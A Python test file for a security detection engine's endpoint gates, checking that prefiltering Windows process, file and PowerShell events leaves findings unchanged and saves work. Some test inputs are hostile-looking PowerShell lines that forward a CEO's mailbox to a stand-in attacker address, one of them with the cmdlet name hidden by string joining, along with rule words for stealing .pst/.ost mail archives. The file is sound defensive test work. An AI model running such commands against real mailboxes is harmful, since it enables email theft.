"""The endpoint gates (app/normalise/endpoint_gate.py) against the reader without them: the same
findings, output fields and job-inspector messages on every benchmark mix, every rule test
event in every shape, the 23,371 real Windows events and process creations and file events
built to slip past a word check (letters that fold onto ASCII, encoded commands, cmdlets,
upper case, CIM and classic names, a CIM folder and file name joined, XML-only events, values
past the length cut); the clauses they derive from rule documents; and, counted in steps,
that they spare the work they are for.
"""


import pytest

from app.engine import Engine
from app.finding import output_fields
from app.normalise.windows_endpoint import (FILE_ACCESS, FILE_CHANGE, FILE_CREATE, GATED_PROCESS_FIELDS,
                                             PROCESS_CREATE, SHARE_ACCESS, normalise_windows_endpoint)
from app.normalise.endpoint_gate import endpoint_gate, necessary_clauses
from app.normalise.windows_text import SCRIPT_BLOCK_OPERATION
from tests.conftest import REPO
from tools.bench import make_records
from tools.step_count import count_steps
from tests.helpers import AWKWARD_CASES, AWKWARD_EVENTS, MIXES, hayabusa_windows_events, mix_records, rule_test_records, sysmon_process_event


@pytest.fixture(scope="module")
def ungated():
    """The engine as shipped, with the gates taken out: every endpoint event read whole."""
    engine = Engine.load(REPO)
    engine.context.endpoint_gates = {}
    return engine


@pytest.fixture(scope="module")
def gated():
    engine = Engine.load(REPO)
    assert set(engine.context.endpoint_gates) == {PROCESS_CREATE, FILE_CREATE, FILE_ACCESS, SHARE_ACCESS, FILE_CHANGE,
                                                  SCRIPT_BLOCK_OPERATION}
    return engine


def _outcome(engine, record):
    findings = engine.findings(dict(record))
    return [finding.as_dict() for finding in findings], output_fields(findings, record)


def assert_same_outcomes(gated, ungated, records):
    fired = 0
    for record in records:
        with_gate = _outcome(gated, record)
        assert with_gate == _outcome(ungated, record), record
        fired += bool(with_gate[0])
    assert gated.problems.counts() == ungated.problems.counts()
    return fired


@pytest.mark.parametrize("source", MIXES + ("light", "rule_tests", "awkward"))
def test_gates_give_the_findings_of_the_whole_reader(gated, ungated, source):
    records = {"light": lambda: make_records(7, 3000, 0.05), "rule_tests": rule_test_records,
               "awkward": lambda: AWKWARD_EVENTS}.get(source, lambda: mix_records(source))()
    fired = assert_same_outcomes(gated, ungated, records)
    if source in ("light", "rule_tests", "awkward"):
        assert fired, "the records hold process creations that fire: the comparison is not vacuous"


def test_gates_give_the_findings_of_the_whole_reader_on_real_windows_events(gated, ungated):
    assert_same_outcomes(gated, ungated, hayabusa_windows_events())


def test_awkward_endpoint_events_fire_where_the_rules_say(gated):
    """Not only agreement: the cases the gate must let through do fire."""
    for record, rule_id in AWKWARD_CASES:
        fired = [finding.as_dict()["rule"] for finding in gated.findings(dict(record))]
        assert fired == ([rule_id] if rule_id else []), record


def _rules(*specs):
    class FakeRule:
        def __init__(self, spec):
            self.match_spec = spec
    return [FakeRule(spec) for spec in specs]


def test_clauses_follow_all_any_and_not():
    fields = GATED_PROCESS_FIELDS
    assert necessary_clauses({"all": [
        {"field": "operation", "equals": "ProcessCreate"},
        {"field": "extra.process_name", "equals": "Outlook.exe"},
        {"field": "extra.parent_process_name", "in": ["cmd.exe", "wscript.exe"]}]}, fields) == [
        frozenset({"outlook.exe"}), frozenset({"cmd.exe", "wscript.exe"})]
    assert necessary_clauses({"any": [
        {"field": "extra.command_line", "matches": r"(?i)\.(pst|ost)\b"},
        {"all": [{"field": "text", "contains_any": ["Outlook.Application", "GetNamespace"]},
                 {"field": "extra.process_name", "endswith_any": [".exe"]}]}]}, fields) == [
        frozenset({".pst", ".ost", "outlook.application", "getnamespace"})]   # of an alternative's clauses, the longer words
    # Every word set a regex needs is a clause: `get-mg(beta)?user...message` needs all three words.
    assert necessary_clauses({"field": "text", "matches": r"(?i)get-mg(beta)?user(mailfolder)?message"}, fields) == [
        frozenset({"message"}), frozenset({"get-mg"}), frozenset({"user"})]
    # An alternative with no words, an absence, a test of another field: no clause.
    assert necessary_clauses({"any": [{"field": "text", "contains_any": ["x.pst"]},
                                      {"field": "extra.command_line", "nonempty": True}]}, fields) == []
    assert necessary_clauses({"not": {"field": "text", "contains_any": ["x"]}}, fields) == []
    assert necessary_clauses({"field": "actor", "equals": "bob"}, fields) == []
    assert necessary_clauses({"field": "extra.command_line", "matches": "(?i).*"}, fields) == []
    # Words the joined facts cannot show as they are: non-ASCII, a line end, an empty operand.
    assert necessary_clauses({"field": "text", "contains_any": ["caf\u00e9"]}, fields) == []
    assert necessary_clauses({"field": "text", "contains_any": ["a\nb"]}, fields) == []
    assert necessary_clauses({"field": "extra.process_name", "in": ["", "cmd.exe"]}, fields) == []


def test_one_rule_without_words_turns_the_gate_off():
    worded = {"field": "extra.command_line", "contains_any": [".pst"]}
    assert endpoint_gate(_rules(worded), ["Set-Mailbox"], GATED_PROCESS_FIELDS) is not None
    assert endpoint_gate(_rules(worded, {"field": "extra.command_line", "nonempty": True}), ["Set-Mailbox"],
                               GATED_PROCESS_FIELDS) is None


def test_gate_answers_from_words_cmdlets_and_folding_letters():
    gate = endpoint_gate(_rules({"all": [{"field": "extra.process_name", "equals": "outlook.exe"},
                                                {"field": "extra.parent_process_name", "in": ["cmd.exe"]}]},
                                      {"field": "text", "matches": r"(?i)\.pst"}),
                               ["New-MailboxExportRequest"], GATED_PROCESS_FIELDS)
    assert not gate(("notepad x.txt", "c:\\notepad.exe", "notepad.exe", "", "", ""))
    assert not gate(("outlook.exe", "c:\\outlook.exe", "outlook.exe", "c:\\explorer.exe", "explorer.exe", ""))
    assert gate(("OUTLOOK.EXE", "C:\\OUTLOOK.EXE", "OUTLOOK.EXE", "C:\\cmd.exe", "CMD.EXE", ""))
    assert gate(("copy a.PST b", "", "", "", "", ""))
    assert gate(("copy a.p\u017ft b", "", "", "", "", ""))        # the regex matches it; lower() does not
    assert gate(("new-mailboxexportREQUEST -Mailbox x", "", "", "", "", ""))
    assert not gate(("copy a.p st b", "c:\\caf\u00e9.exe", "", "", "", ""))   # non-ASCII alone changes nothing
    verbless = endpoint_gate(_rules({"field": "text", "contains_any": [".pst"]}), ["Search"], GATED_PROCESS_FIELDS)
    assert verbless(("search x", "", "", "", "", "")) and not verbless(("find x", "", "", "", "", ""))


def test_shipped_rules_give_the_gates_their_words(gated):
    gates = gated.context.endpoint_gates
    words = {word for rule in gates[PROCESS_CREATE].rules for clause in rule for word in clause}
    assert {".pst", ".ost", "outlook.exe", "outlook.application"} <= words
    assert len(gates[PROCESS_CREATE].rules) == len(gated._by_operation["processcreate"])
    for operation in (FILE_CREATE, FILE_ACCESS, SHARE_ACCESS):
        assert all(set(rule[0]) <= {".pst", ".ost", "\\comms\\unistore\\data"} for rule in gates[operation].rules)
    assert gates[FILE_CHANGE].rules == ()   # no rule is tried on it: every such event is answered


# Each mix's endpoint events by the operation the reader gives them.
OPERATION_OF_CODE = {"1": PROCESS_CREATE, "4688": PROCESS_CREATE, "11": FILE_CREATE, "4663": FILE_ACCESS,
                     "5145": SHARE_ACCESS}


@pytest.mark.parametrize("source", ["light", "endpoint"])
def test_gates_spare_the_work_on_endpoint_events_without_findings(gated, ungated, source):
    """Counted in steps (lines run in app/), not timed: nearly every process creation and file
    event of the mix is answered by its gate, and the engine's work on them falls by more than
    a quarter (about a third when measured: what is left is recognising the event and reading
    its facts, which the gate needs; in seconds the saving is larger, the gate's searches
    being C calls)."""
    records = make_records(3, 400) if source == "light" else mix_records(source, 600)
    records = [record for record in records if record.get("EventCode") in OPERATION_OF_CODE]
    assert len(records) > 100
    gates = dict(gated.context.endpoint_gates)
    answers = []

    def counting(operation, gate):
        def counted(facts):
            answers.append((operation, gate(facts)))
            return answers[-1][1]
        return counted
    gated.context.endpoint_gates = {operation: counting(operation, gate) for operation, gate in gates.items()}
    try:
        gated_steps = sum(count_steps(gated.findings, dict(record))[1] for record in records)
    finally:
        gated.context.endpoint_gates = gates
    ungated_steps = sum(count_steps(ungated.findings, dict(record))[1] for record in records)
    assert len(answers) == len(records), "%s mix: every endpoint event is asked its gate" % source
    let_through = {}
    for operation, may_fire in answers:
        let_through.setdefault(operation, [0, 0])[0] += may_fire
        let_through[operation][1] += 1
    assert sum(may_fire for _, may_fire in answers) < 0.1 * len(answers), (
        "%s mix: the gates let through more than a tenth of the endpoint events; per operation (let through, "
        "asked): %s; the clauses of that operation's rules are in gate.rules (app/normalise/endpoint_gate.py)"
        % (source, let_through))
    assert gated_steps < 0.75 * ungated_steps, "%s mix: %d steps gated against %d ungated" % (
        source, gated_steps, ungated_steps)


def test_reader_without_the_engine_reads_every_endpoint_event():
    """A caller without an engine's context (no gates) gets the event as before."""
    from app.normalise import NormaliseContext
    context = NormaliseContext(frozenset(), None, {}, None)
    (event,) = normalise_windows_endpoint(sysmon_process_event("notepad.exe x.txt", image=r"C:\Windows\notepad.exe"), context)
    assert event.extra["process_name"] == "notepad.exe"
    (event,) = normalise_windows_endpoint({"EventCode": "11", "sourcetype": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
                                           "TargetFilename": "C:\\x\\notes.txt", "Image": "C:\\n.exe"}, context)
    assert event.extra["file_name"] == "notes.txt"


def _script_block(text):
    return {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
            "EventCode": "4104", "Computer": "ws-0001.contoso.local", "UserID": "S-1-5-21-1-2-3-1001",
            "ScriptBlockText": text}


SCRIPT_BLOCK_CASES = [
    # A cmdlet name only joined pieces spell, run through a variable.
    ("$a = 'New-'+'InboxRule'; & $a -Mailbox ceo -ForwardTo x@evil.example", True),
    # A call after a long script: the gate reads the whole text, as the cmdlet scan does.
    ("Write-Output 'padding'\n" * 2000 + "Set-Mailbox ceo -ForwardingSmtpAddress x@evil.example", True),
    # A script rule's words (Outlook automation), upper case.
    ("$o = New-Object -ComObject OUTLOOK.APPLICATION; $o.GetNamespace('MAPI')", True),
    ("Get-ChildItem C:\\temp -Filter *.log | Remove-Item -WhatIf", False),
    ("$total = 'Files: ' + $count; Write-Host $total", False),
]


@pytest.mark.parametrize("text, fires", SCRIPT_BLOCK_CASES, ids=["joined-name", "after-a-long-script", "outlook-com",
                                                                  "benign", "benign-joined"])
def test_script_block_gate_lets_through_what_the_rules_and_the_cmdlet_scan_need(gated, ungated, text, fires):
    record = _script_block(text)
    assert_same_outcomes(gated, ungated, [record])
    assert bool(gated.findings(dict(record))) == fires
    from app.normalise import normalise
    read = normalise(dict(record), gated.context)
    assert bool(read) == fires, "a script block no rule can fire on is answered by its gate, before any event"
